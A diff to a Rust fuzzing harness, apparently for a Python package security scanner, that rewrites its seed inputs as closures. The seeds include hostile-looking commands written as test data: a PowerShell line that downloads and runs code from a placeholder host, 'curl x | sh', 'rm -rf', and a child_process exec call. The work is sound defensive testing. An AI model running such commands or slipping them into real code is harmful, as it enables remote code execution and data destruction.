@@ -23,7 +23,7 @@ fn say(line: &str) {
 fn targets() -> Vec<Target> {
     let mut all = archives();
     all.extend(members());
-    all.push(Target::new("url", texts(&["see https://u:p@a.example:8443/x?y#z, http://[::1]/ and ftp://1.2.3.4"]), |bytes| {
+    all.push(Target::new("url", || texts(&["see https://u:p@a.example:8443/x?y#z, http://[::1]/ and ftp://1.2.3.4"]), |bytes| {
         let text = String::from_utf8_lossy(bytes);
         for (at, found) in url::find(&text) {
             assert!(text.is_char_boundary(at));
@@ -31,10 +31,11 @@ fn targets() -> Vec<Target> {
         }
         url::parse(&text);
     }));
-    let (honest, sha256) = (probe::rows(&wheel()), sha256_hex(&wheel()));
-    assert!(probe::accepts(honest.clone(), &sha256).is_some());
-    all.push(Target::new("rows", [honest.clone()], move |bytes| drop(probe::accepts(bytes.to_vec(), &sha256))));
-    all.push(Target::new("frame", [probe::frame(b"rows"), probe::frame(&honest)], |bytes| drop(probe::receives(bytes))));
+    let honest = || probe::rows(&wheel());
+    let sha256 = sha256_hex(&wheel());
+    assert!(probe::accepts(honest(), &sha256).is_some());
+    all.push(Target::new("rows", move || vec![honest()], move |bytes| drop(probe::accepts(bytes.to_vec(), &sha256))));
+    all.push(Target::new("frame", move || vec![probe::frame(b"rows"), probe::frame(&honest())], |bytes| drop(probe::receives(bytes))));
     all
 }
 
@@ -45,7 +46,6 @@ fn wheel() -> Vec<u8> {
 
 /// The containers, each with the honest and the hostile artifacts of its kind that are small; then whole artifacts.
 fn archives() -> Vec<Target> {
-    let kit = hostile::kit();
     let kinds: [(&str, &[u8]); 6] = [
         ("zip", b"PK\x03\x04"),
         ("gzip", b"\x1f\x8b"),
@@ -54,11 +54,13 @@ fn archives() -> Vec<Target> {
         ("zstd", b"\x28\xb5\x2f\xfd"),
         ("tar", b"h/"),
     ];
-    let small: Vec<Vec<u8>> = kit.iter().filter(|case| is_small(&case.name)).map(hostile::Case::bytes).collect();
-    let of = |magic: &[u8]| small.iter().filter(|bytes| bytes.starts_with(magic)).cloned().collect::<Vec<_>>();
-    let containers = kinds.map(|(name, magic)| Target::new(name, of(magic), |bytes| drop(census_artifact::read(bytes, &limits(), &mut |_| ()))));
-    let sdist = Sdist::new("demo", "1.0").file("setup.py", "from setuptools import setup\nsetup()\n").build().bytes;
-    let whole = Target::new("artifact", [wheel(), sdist], |bytes| {
+    let small = || hostile::kit().into_iter().filter(|case| is_small(&case.name)).map(|case| case.bytes());
+    let containers = kinds.map(|(name, magic)| {
+        let seeds = move || small().filter(|bytes| bytes.starts_with(magic)).collect();
+        Target::new(name, seeds, |bytes| drop(census_artifact::read(bytes, &limits(), &mut |_| ())))
+    });
+    let sdist = || Sdist::new("demo", "1.0").file("setup.py", "from setuptools import setup\nsetup()\n").build().bytes;
+    let whole = Target::new("artifact", move || vec![wheel(), sdist()], |bytes| {
         let scanned = census_scan::scan_bytes("demo", "demo-1.0-py3-none-any.whl", bytes, &limits());
         assert!(matches!(scanned.scan.outcome.as_str(), "ok" | "partial" | "failed" | "skipped"));
     });
@@ -82,41 +84,42 @@ fn texts(texts: &[&str]) -> Vec<Vec<u8>> {
 /// The formats of members, each read as what it claims to be.
 fn members() -> Vec<Target> {
     let mut all = Vec::new();
-    let mut add = |format: Format, seeds: Vec<Vec<u8>>| {
-        all.push(Target::new(format.name(), seeds, move |bytes| {
+    let see = |format: Format| {
+        move |bytes: &[u8]| {
             census_extract::member(format, bytes);
-        }));
+        }
     };
-    add(Format::Python, texts(&[PYTHON, DISGUISED, "match x:\n  case [1, *_] if (y := 2):\n    type X[T] = list[T]\n"]));
-    add(Format::Stub, texts(&["import os\nclass A(os.PathLike[str]):\n    def f(self, x: int = ...) -> None: ...\nx: int\n"]));
-    add(Format::Pth, texts(&["import os; exec('x')\n./lib\n# words\n"]));
-    add(Format::Notebook, texts(&[r#"{"cells": [{"cell_type": "code", "source": ["import os\n", "!id\n"], "outputs": []}], "nbformat": 4}"#]));
-    add(Format::Metadata, texts(&["Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: six[a,b]>=1,<2; python_version < '3' and (extra == 'x' or os_name != 'nt')\nRequires-Dist: d @ https://d.example/d.zip\nAuthor-email: A <a@b.example>\nProject-URL: Source, https://s.example/\n\nWords\n"]));
-    add(Format::Record, texts(&["a.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\n\"b,c.py\",,\n"]));
-    add(Format::WheelInfo, texts(&["Wheel-Version: 1.0\nGenerator: x (1.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"]));
-    add(Format::EntryPoints, texts(&["[console_scripts]\nx = a.b:c.d [e]\n\n[group]\ny=z\n"]));
-    add(Format::DirectUrl, texts(&[r#"{"url": "https://u.example/", "vcs_info": {"vcs": "git"}}"#]));
-    add(Format::Requirements, texts(&["six>=1 # words\n-r other.txt\n-e .\nx[y] ; os_name == 'nt'\n[extra:python_version<'3']\nz @ https://z.example/\n"]));
-    add(Format::Pyproject, texts(&["[build-system]\nrequires = [\"a>=1\"]\nbuild-backend = \"b:c\"\nbackend-path = [\".\"]\n[project.scripts]\nx = \"a:b\"\n"]));
-    add(Format::SetupCfg, texts(&["[metadata]\nname = demo\n[options]\ninstall_requires =\n  six\n  x>=1\n"]));
-    add(Format::Sbom, texts(&[r#"{"bomFormat": "CycloneDX", "components": [{"name": "a", "version": "1", "purl": "p:x/a@1", "components": []}]}"#]));
-    add(Format::Shell, texts(&["#!/bin/sh\nX=1 chmod 755 $(which y) | tee `id` <<EOF\nwords\nEOF\nif [ -f a ]; then curl 'b' && rm -rf \"$c\"; fi\n"]));
-    add(Format::PowerShell, texts(&["$x = 'a'; iex (New-Object Net.WebClient).DownloadString(\"https://p.example/\")\nStart-Process `\n  powershell -enc AAAA\n"]));
-    add(Format::Batch, texts(&["@echo off\r\nset X=1\r\nreg add HKLM\\x /v y ^\r\n  /d z & del /q %X%\r\n"]));
-    add(Format::Makefile, texts(&["all: x\n\t@chmod 755 $(X) ; \\\n\tid\nX := $(shell id)\n"]));
-    add(Format::Dockerfile, texts(&["FROM x\nRUN apt-get install \\\n  y && id\nCMD [\"a\", \"b\"]\n"]));
-    add(Format::JavaScript, texts(&["require('child_process').exec('id'); var u = 'https:\\/\\/j.example\\/'; `a${b}`\n"]));
-    add(Format::Yaml, texts(&["on: push\njobs:\n  a:\n    steps:\n      - run: |\n          curl x | sh\n      - uses: a/b@c\n"]));
-    add(Format::Json, texts(&["{\"a\": \"https:\\/\\/a.example\", \"k\": \"AKIAIOSFODNN7EXAMPLE\"}"]));
-    let natives = |part: &str| {
+    let mut add = |format: Format, seeds: &'static [&'static str]| all.push(Target::new(format.name(), || texts(seeds), see(format)));
+    add(Format::Python, &[PYTHON, DISGUISED, "match x:\n  case [1, *_] if (y := 2):\n    type X[T] = list[T]\n"]);
+    add(Format::Stub, &["import os\nclass A(os.PathLike[str]):\n    def f(self, x: int = ...) -> None: ...\nx: int\n"]);
+    add(Format::Pth, &["import os; exec('x')\n./lib\n# words\n"]);
+    add(Format::Notebook, &[r#"{"cells": [{"cell_type": "code", "source": ["import os\n", "!id\n"], "outputs": []}], "nbformat": 4}"#]);
+    add(Format::Metadata, &["Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: six[a,b]>=1,<2; python_version < '3' and (extra == 'x' or os_name != 'nt')\nRequires-Dist: d @ https://d.example/d.zip\nAuthor-email: A <a@b.example>\nProject-URL: Source, https://s.example/\n\nWords\n"]);
+    add(Format::Record, &["a.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\n\"b,c.py\",,\n"]);
+    add(Format::WheelInfo, &["Wheel-Version: 1.0\nGenerator: x (1.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"]);
+    add(Format::EntryPoints, &["[console_scripts]\nx = a.b:c.d [e]\n\n[group]\ny=z\n"]);
+    add(Format::DirectUrl, &[r#"{"url": "https://u.example/", "vcs_info": {"vcs": "git"}}"#]);
+    add(Format::Requirements, &["six>=1 # words\n-r other.txt\n-e .\nx[y] ; os_name == 'nt'\n[extra:python_version<'3']\nz @ https://z.example/\n"]);
+    add(Format::Pyproject, &["[build-system]\nrequires = [\"a>=1\"]\nbuild-backend = \"b:c\"\nbackend-path = [\".\"]\n[project.scripts]\nx = \"a:b\"\n"]);
+    add(Format::SetupCfg, &["[metadata]\nname = demo\n[options]\ninstall_requires =\n  six\n  x>=1\n"]);
+    add(Format::Sbom, &[r#"{"bomFormat": "CycloneDX", "components": [{"name": "a", "version": "1", "purl": "p:x/a@1", "components": []}]}"#]);
+    add(Format::Shell, &["#!/bin/sh\nX=1 chmod 755 $(which y) | tee `id` <<EOF\nwords\nEOF\nif [ -f a ]; then curl 'b' && rm -rf \"$c\"; fi\n"]);
+    add(Format::PowerShell, &["$x = 'a'; iex (New-Object Net.WebClient).DownloadString(\"https://p.example/\")\nStart-Process `\n  powershell -enc AAAA\n"]);
+    add(Format::Batch, &["@echo off\r\nset X=1\r\nreg add HKLM\\x /v y ^\r\n  /d z & del /q %X%\r\n"]);
+    add(Format::Makefile, &["all: x\n\t@chmod 755 $(X) ; \\\n\tid\nX := $(shell id)\n"]);
+    add(Format::Dockerfile, &["FROM x\nRUN apt-get install \\\n  y && id\nCMD [\"a\", \"b\"]\n"]);
+    add(Format::JavaScript, &["require('child_process').exec('id'); var u = 'https:\\/\\/j.example\\/'; `a${b}`\n"]);
+    add(Format::Yaml, &["on: push\njobs:\n  a:\n    steps:\n      - run: |\n          curl x | sh\n      - uses: a/b@c\n"]);
+    add(Format::Json, &["{\"a\": \"https:\\/\\/a.example\", \"k\": \"AKIAIOSFODNN7EXAMPLE\"}"]);
+    let natives = |part: &str| -> Vec<Vec<u8>> {
         let cases = hostile::kit().into_iter().filter(|case| case.name.starts_with("native/") && case.name.contains(part));
-        let members = cases.filter_map(|case| first_member(&case.bytes()));
-        members.collect::<Vec<_>>()
+        cases.filter_map(|case| first_member(&case.bytes())).collect()
     };
     for (format, part) in [(Format::Elf, "elf"), (Format::Pe, "/pe-"), (Format::MachO, "macho"), (Format::Ar, "/ar-"), (Format::Wasm, "wasm")] {
-        add(format, natives(part));
+        all.push(Target::new(format.name(), move || natives(part), see(format)));
     }
-    add(Format::Coff, vec![b"\x64\x86\x01\0\0\0\0\0\x3c\0\0\0\x01\0\0\0\0\0\0\0".to_vec()]);
+    let object = b"\x64\x86\x01\0\0\0\0\0\x3c\0\0\0\x01\0\0\0\0\0\0\0";
+    all.push(Target::new(Format::Coff.name(), || vec![object.to_vec()], see(Format::Coff)));
     all
 }
 
